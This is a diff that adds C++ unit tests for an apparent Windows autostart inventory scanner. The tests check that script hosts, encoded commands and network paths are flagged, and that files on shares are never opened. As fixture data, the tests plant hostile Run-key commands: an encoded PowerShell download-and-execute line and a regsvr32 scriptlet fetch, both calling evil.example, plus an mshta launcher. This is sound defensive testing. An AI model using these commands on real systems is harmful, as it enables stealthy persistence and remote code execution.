@@ -244,6 +244,98 @@ TEST_F(InventoryTest, ASmallFileThatIsNoProgramIsSaidToBeNone) {
     EXPECT_FALSE(Named(entries, "Vendor").notProgram);
 }
 
+TEST_F(InventoryTest, ScriptHostAndNetworkEntriesAreListedFlaggedAndNothingOnAShareIsOpened) {
+    const std::string system = R"(C:\WINDOWS\system32\)";
+    for (const char* host : {"WindowsPowerShell\\v1.0\\powershell.exe", "mshta.exe", "wscript.exe", "regsvr32.exe"}) {
+        files_.AddFile(system + host, "MZ");
+        trust_.Sign(system + host, TrustStatus::Signed, "Microsoft Windows");
+    }
+    files_.AddFile(system + "slmgr.vbs", "script");
+    trust_.Sign(system + "slmgr.vbs", TrustStatus::Signed, "Microsoft Windows");
+    files_.AddFile(R"(C:\Users\ann\AppData\Roaming\x.vbs)", "script");
+    registry_.AddString(R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList)",
+                        "ProfilesDirectory", R"(C:\Users)");
+    registry_.AddString(kUserRun, "Enc",
+                        "powershell -w hidden -enc "
+                        "aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=");
+    registry_.AddString(kUserRun, "Hta", R"x(mshta "javascript:a=new ActiveXObject('WScript.Shell');close()")x");
+    registry_.AddString(kUserRun, "Vbs", R"(wscript %APPDATA%\x.vbs)");
+    registry_.AddString(kUserRun, "SystemScript", R"(wscript C:\WINDOWS\system32\slmgr.vbs /ato)");
+    registry_.AddString(kUserRun, "Share", R"(\\server\share\x.exe)");
+    registry_.AddString(kUserRun, "Sct", "regsvr32 /s /i:http://evil.example/a.sct scrobj.dll");
+    files_.remoteDrives = "Z";
+    registry_.AddString(kUserRun, "Mapped", R"("Z:\tools\x.exe" -q)");
+    registry_.AddString(R"(HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders)",
+                        "Startup", R"(\\server\startup)");
+
+    const auto entries = Build();
+
+    const InventoryEntry& encoded = Named(entries, "Enc");
+    EXPECT_EQ(encoded.flags, flag::kScriptHost | flag::kEncoded);
+    EXPECT_NE(encoded.note.find("encoded command: iex (iwr http://evil.example/a)"), std::string::npos);
+    EXPECT_TRUE(IsFlagged(encoded));
+    // The system's own, signed host, given inline script: not flagged, never hidden.
+    const InventoryEntry& hta = Named(entries, "Hta");
+    EXPECT_EQ(hta.flags, flag::kScriptHost);
+    EXPECT_TRUE(IsOsSigned(hta));
+    EXPECT_FALSE(IsFlagged(hta));
+    EXPECT_FALSE(MayBeHidden(hta));
+    // The script is judged as a program: unsigned, in a profile.
+    const InventoryEntry& vbs = Named(entries, "Vbs");
+    EXPECT_EQ(vbs.program, R"(C:\Users\ann\AppData\Roaming\x.vbs)");
+    EXPECT_EQ(vbs.flags, flag::kScriptHost | flag::kUnsigned | flag::kUserWritable);
+    // The system's host running the system's own signed script may be left out.
+    const InventoryEntry& systemScript = Named(entries, "SystemScript");
+    EXPECT_EQ(systemScript.flags, flag::kScriptHost);
+    EXPECT_TRUE(MayBeHidden(systemScript));
+    EXPECT_EQ(Named(entries, "Sct").flags, flag::kScriptHost | flag::kNetwork);
+    EXPECT_TRUE(MayBeHidden(Named(entries, "ctfmon")));
+
+    for (const char* name : {"Share", "Mapped"}) {
+        const InventoryEntry& share = Named(entries, name);
+        EXPECT_EQ(share.flags, flag::kNetwork) << name;
+        EXPECT_EQ(share.signature, TrustStatus::Unchecked) << name;
+        EXPECT_EQ(share.note, "network path, not checked") << name;
+    }
+    auto startup = std::find_if(entries.begin(), entries.end(), [](const InventoryEntry& e) {
+        return e.place == "startup" && e.location == R"(\\server\startup)";
+    });
+    ASSERT_NE(startup, entries.end());
+    EXPECT_EQ(startup->flags, flag::kNetwork);
+
+    // Nothing on another machine was listed, opened, hashed or verified.
+    for (const std::string& path : files_.touched) {
+        EXPECT_NE(path.rfind(R"(\\)", 0), 0u) << path;
+        EXPECT_NE(path.rfind("Z:", 0), 0u) << path;
+    }
+    for (const std::string& path : trust_.verified)
+        EXPECT_TRUE(path.rfind(R"(\\)", 0) != 0 && path.rfind("Z:", 0) != 0) << path;
+}
+
+TEST_F(InventoryTest, OnlyProgramsOfTheSystemsFoldersThatNoUserMayChangeKeepTheirVerdictInTheCache) {
+    // A copy of a program signed by the system's publisher, run from a user's profile: the user
+    // may rewrite it and put its write time back, so it is checked every time.
+    registry_.AddString(R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList)",
+                        "ProfilesDirectory", R"(%SystemDrive%\Users)");
+    system_.environment["SYSTEMDRIVE"] = "C:";
+    const std::string copy = R"(C:\Users\ann\AppData\Roaming\ctfmon.exe)";
+    files_.AddFile(copy, "mz");
+    trust_.Sign(copy, TrustStatus::Signed, "Microsoft Windows");
+    registry_.AddString(kUserRun, "Copy", copy);
+    // A program whose owner is the user, below Program Files; one whose folder lets users delete.
+    files_.owners[R"(C:\Program Files\Vendor App\updater.exe)"] = "S-1-5-21-1-2-3-1001";
+    files_.accessEntries[R"(C:\Program Files\GMT)"] = {{true, "S-1-5-32-545", 0x0040, false}};
+    Build();
+    trust_.verified.clear();
+    const auto second = Build();
+    std::sort(trust_.verified.begin(), trust_.verified.end());
+    EXPECT_EQ(trust_.verified,
+              (std::vector<std::string>{R"(C:\Program Files\GMT\GMT.exe)", R"(C:\Program Files\Vendor App\updater.exe)",
+                                        R"(C:\Users\Public\tool\tool.exe)", copy}));
+    EXPECT_EQ(Named(second, "Copy").flags, flag::kUserWritable);
+    EXPECT_EQ(Named(second, "Vendor").flags, flag::kUserWritable);
+}
+
 TEST_F(InventoryTest, AProgramOver512MiBIsNeverHashedAndSaysSo) {
     files_.sizes["updater.exe"] = kMaxVerifiedLength + 1;
     const auto entries = Build();
